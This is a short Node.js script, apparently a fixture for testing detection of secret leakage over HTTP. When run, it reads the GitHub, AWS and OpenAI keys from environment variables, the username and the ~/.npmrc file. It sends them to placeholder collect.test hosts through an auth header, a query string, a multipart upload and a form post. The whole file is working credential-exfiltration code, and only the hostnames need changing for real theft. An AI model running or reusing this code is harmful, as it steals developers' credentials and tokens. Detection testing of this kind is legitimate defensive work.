// HTTP/1 in the places a token hides: a Basic Authorization header, a query
// string, a multipart upload of ~/.npmrc and a urlencoded form.
const http = require('http'), fs = require('fs'), os = require('os');
function req(host, opts, body) {
	return new Promise(done => {
		const r = http.request({ host, port: 80, ...opts }, res => { res.resume(); res.on('end', done); });
		r.on('error', done);
		r.end(body);
	});
}
(async () => {
	await req('hdr.collect.test', { path: '/', headers: { authorization: 'Basic ' + Buffer.from('me:' + process.env.GITHUB_TOKEN).toString('base64') } });
	await req('query.collect.test', { path: '/p?k=' + encodeURIComponent(process.env.AWS_SECRET_ACCESS_KEY) + '&v=1' });
	const b = '----x' + Date.now();
	const body = '--' + b + '\r\nContent-Disposition: form-data; name="f"; filename="npmrc"\r\nContent-Type: application/octet-stream\r\n\r\n' +
		fs.readFileSync(os.homedir() + '/.npmrc', 'utf8') + '\r\n--' + b + '--\r\n';
	await req('multipart.collect.test', { method: 'POST', path: '/up', headers: { 'content-type': 'multipart/form-data; boundary=' + b } }, body);
	await req('form.collect.test', { method: 'POST', path: '/f', headers: { 'content-type': 'application/x-www-form-urlencoded' } },
		new URLSearchParams({ key: process.env.OPENAI_API_KEY, u: require('os').userInfo().username }).toString());
})();
